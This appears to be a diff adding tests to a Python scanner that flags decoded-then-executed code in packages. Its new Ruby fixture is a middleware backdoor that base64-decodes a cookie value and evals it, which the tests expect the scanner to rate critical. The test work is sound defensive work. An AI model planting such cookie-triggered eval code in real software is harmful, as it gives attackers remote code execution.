@@ -5,7 +5,7 @@ import base64
 import pytest
 
 from pratique.core.finding import Confidence, Severity
-from tests.analysis.inspecting import npm, of_rule, package_json, wheel
+from tests.analysis.inspecting import gem, npm, of_rule, package_json, wheel
 
 RULE = "decoded-then-executed"
 BLOB = base64.b64encode(b"print('marker')\n" * 20).decode()
@@ -106,3 +106,26 @@ def test_a_style_by_which_a_browser_is_tried_stays_quiet() -> None:
 def test_code_in_an_address_is_held_whatever_it_calls_itself(code: str) -> None:
     found = of_rule(npm({"index.mjs": code, "package.json": package_json(main="index.mjs")}), RULE)
     assert [Severity.CRITICAL] == [finding.severity for finding in found]
+
+
+REQUEST = """require 'base64'
+class Shield
+  def call(env)
+    found = env['HTTP_COOKIE'].to_s.match(/___inert=(.+)/)
+    eval(Base64.urlsafe_decode64(found[1])) if found
+  end
+end
+"""
+
+
+def test_what_a_request_brings_is_held_where_ruby_evaluates_it() -> None:
+    (finding,) = of_rule(gem({"lib/sample.rb": REQUEST}), RULE)
+    assert (Severity.CRITICAL, 5) == (finding.severity, finding.locations[0].line)
+    (finding,) = of_rule(gem({"lib/sample.rb": REQUEST}, {"lib/sample.rb": REQUEST}), RULE)
+    assert Severity.MEDIUM is finding.severity
+
+
+def test_what_ruby_evaluates_of_its_own_files_when_it_is_called_is_a_note() -> None:
+    own = REQUEST.replace("found[1]", "File.read('a.txt')")
+    (finding,) = of_rule(gem({"lib/sample.rb": own}), RULE)
+    assert Severity.MEDIUM is finding.severity
